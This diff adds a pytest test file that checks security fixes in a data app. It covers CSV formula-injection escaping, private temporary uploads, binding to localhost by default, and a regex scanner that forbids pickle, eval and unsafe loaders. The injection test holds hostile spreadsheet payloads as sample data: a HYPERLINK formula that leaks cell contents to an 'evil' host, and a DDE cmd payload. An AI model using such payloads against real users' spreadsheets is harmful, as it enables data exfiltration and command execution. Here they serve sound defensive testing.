@@ -1,0 +1,156 @@
+"""Security (issue 12): safe CSV downloads, private uploads, localhost by default, no pickle/eval of user input."""
+from __future__ import annotations
+
+import gc
+import io
+import os
+import re
+import stat
+import subprocess
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from core import safe_csv
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+# ------------------------------------------------------------------ formula injection
+def test_formula_cells_get_a_leading_apostrophe_and_numbers_stay_numbers():
+    df = pd.DataFrame({"name": ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                "@SUM(A1)", "\tx", "\rx", "Ann", "-3", "+1.5e3", None],
+                       "count": [1, -2, 3, 4, 5, 6, 7, 8, 9, 10],
+                       "score": [-0.5, 0.1, 2.0, -1e-3, 0.0, 1.0, 3.5, -7.0, 8.0, 9.0]})
+    text = safe_csv.to_csv(df)
+    back = pd.read_csv(io.StringIO(text), dtype={"name": str}, keep_default_na=False)
+    assert back["name"].tolist() == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+1+cmd|' /C calc'!A0", "'-2+3",
+                                     "'@SUM(A1)", "'\tx", "'\rx", "Ann", "-3", "+1.5e3", ""]
+    assert back["count"].tolist() == df["count"].tolist()  # negative numbers are not touched
+    assert back["score"].tolist() == df["score"].tolist()
+    # column names are cells too
+    assert safe_csv.to_csv(pd.DataFrame({"=cmd": [1]})).splitlines()[0] == '"\'=cmd"'
+    assert safe_csv.neutralise(-5) == -5 and safe_csv.neutralise("safe") == "safe"
+
+
+def test_download_table_uses_the_safe_writer(monkeypatch):
+    import ui.common as common
+
+    seen = {}
+    monkeypatch.setattr(common.st, "download_button", lambda label, data, **kw: seen.update(data=data, **kw))
+    common.download_table(pd.DataFrame({"zip": ["=1+1", "02138"], "k": [-1, 2]}), "k-anonymity table")
+    data = seen["data"]() if callable(seen["data"]) else seen["data"]
+    assert data.splitlines() == ['"zip","k"', '"\'=1+1",-1', '"02138",2']
+
+
+# ------------------------------------------------------------------ uploads
+def test_uploads_are_private_shared_by_content_and_deleted_when_no_session_needs_them():
+    from ui import uploads
+
+    a, b = {}, {}
+    pa = uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=a)
+    pb = uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=b)
+    assert pa == pb and Path(pa).read_bytes().startswith(b"user")
+    assert stat.S_IMODE(os.stat(pa).st_mode) == 0o600
+    assert stat.S_IMODE(os.stat(Path(pa).parent).st_mode) == 0o700
+    assert not str(pa).startswith(os.path.join(os.sep, "tmp", "location-"))  # not the old world-readable name
+    # the same session re-running with the same upload keeps the same file
+    assert uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=a) == pa
+    del a  # session a ends: b still needs the file
+    gc.collect()
+    assert os.path.exists(pa)
+    pb2 = uploads.save_upload(b"other,bytes\n", kind="t", state=b)  # b uploads another file: the first goes
+    assert pb2 != pa and not os.path.exists(pa) and os.path.exists(pb2)
+    uploads.drop_upload("t", state=b)
+    assert not os.path.exists(pb2)
+    c = {}
+    pc = uploads.save_upload(b"x\n", kind="t", state=c)
+    del c
+    gc.collect()
+    assert not os.path.exists(pc)
+
+
+# ------------------------------------------------------------------ run.sh binds to localhost
+def _fake_venv(tmp_path: Path) -> Path:
+    venv = tmp_path / "venv"
+    (venv / "bin").mkdir(parents=True)
+    py = venv / "bin" / "python"
+    py.write_text('#!/usr/bin/env bash\nprintf "%s\\n" "$@"\n')
+    py.chmod(0o755)
+    want = subprocess.run(["sha256sum", str(ROOT / "requirements.txt")], capture_output=True, text=True,
+                          check=True).stdout.split()[0]
+    (venv / ".requirements.sha").write_text(want + "\n")
+    return venv
+
+
+@pytest.mark.parametrize("extra, expect", [
+    ([], ["--server.address", "127.0.0.1"]),
+    (["--server.port", "9000"], ["--server.address", "127.0.0.1", "--server.port", "9000"]),
+    (["--server.address", "0.0.0.0"], ["--server.address", "0.0.0.0"]),
+    (["--server.address=10.0.0.5"], ["--server.address=10.0.0.5"]),
+])
+def test_run_sh_app_binds_to_localhost_unless_an_address_is_given(tmp_path, extra, expect):
+    env = {k: v for k, v in os.environ.items() if k != "STREAMLIT_SERVER_ADDRESS"}
+    env["VENV"] = str(_fake_venv(tmp_path))
+    proc = subprocess.run(["bash", str(ROOT / "run.sh"), "app", *extra], capture_output=True, text=True,
+                          env=env, timeout=30)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.split("\n")[:-1] == ["-m", "streamlit", "run", "app.py", *expect]
+
+
+# ------------------------------------------------------------------ no pickle / eval of anything
+FORBIDDEN = {
+    r"\bpickle\b": "pickle",
+    r"\bcPickle\b|\bdill\b|\bcloudpickle\b": "pickle variants",
+    r"(?<![\w.])eval\s*\(": "eval(",
+    r"(?<![\w.])exec\s*\(": "exec(",
+    r"(?<![\w.])compile\s*\(": "compile(",
+    r"(?<![\w.])__import__\s*\(": "__import__(",
+    r"\bjoblib\.load\b|\bjoblib import load\b": "joblib.load",
+    r"\byaml\.(unsafe_)?load\s*\(|\byaml\.load_all\b|\bFullLoader\b|\bUnsafeLoader\b": "yaml.load",
+    r"\bread_pickle\b|\bto_pickle\b": "pandas pickle",
+    r"allow_pickle\s*=\s*True": "numpy allow_pickle",
+    r"\bmarshal\b|\bshelve\b": "marshal/shelve",
+    r"\btorch\.load\b": "torch.load",
+    r"shell\s*=\s*True": "subprocess shell=True",
+}
+
+
+def _code_lines(path: Path):
+    """Source lines without comments and docstrings/strings (a mention in prose is not a call)."""
+    import tokenize
+
+    with open(path, "rb") as fh:
+        tokens = list(tokenize.tokenize(fh.readline))
+    keep: dict[int, list[str]] = {}
+    for tok in tokens:
+        if tok.type in (tokenize.COMMENT, tokenize.STRING, tokenize.ENCODING, tokenize.NL, tokenize.NEWLINE):
+            continue
+        if getattr(tokenize, "FSTRING_MIDDLE", None) == tok.type:
+            continue
+        keep.setdefault(tok.start[0], []).append(tok.string)
+    return {n: " ".join(parts).replace(" . ", ".").replace(" (", "(").replace(" .", ".").replace(". ", ".")
+            for n, parts in keep.items()}
+
+
+def test_no_pickle_eval_or_unsafe_loaders_in_the_app():
+    files = [ROOT / "app.py", *sorted((ROOT / "core").rglob("*.py")), *sorted((ROOT / "ui").rglob("*.py")),
+             *sorted((ROOT / "pages").rglob("*.py"))]
+    assert len(files) > 20
+    hits = []
+    for path in files:
+        for n, line in _code_lines(path).items():
+            for pattern, what in FORBIDDEN.items():
+                if re.search(pattern, line):
+                    hits.append(f"{path.relative_to(ROOT)}:{n}: {what}: {line.strip()[:100]}")
+    assert not hits, "unsafe deserialisation/evaluation:\n" + "\n".join(hits)
+
+
+def test_the_scanner_finds_what_it_looks_for(tmp_path):
+    bad = tmp_path / "bad.py"
+    bad.write_text("import pickle\nx = pickle.loads(data)\ny = eval(text)\nz = joblib.load(path)\n"
+                   "w = yaml.load(s)\nmodel.eval()\n# eval( in a comment\ns = 'exec( in a string'\n")
+    lines = _code_lines(bad)
+    found = {what for line in lines.values() for p, what in FORBIDDEN.items() if re.search(p, line)}
+    assert found == {"pickle", "eval(", "joblib.load", "yaml.load"}
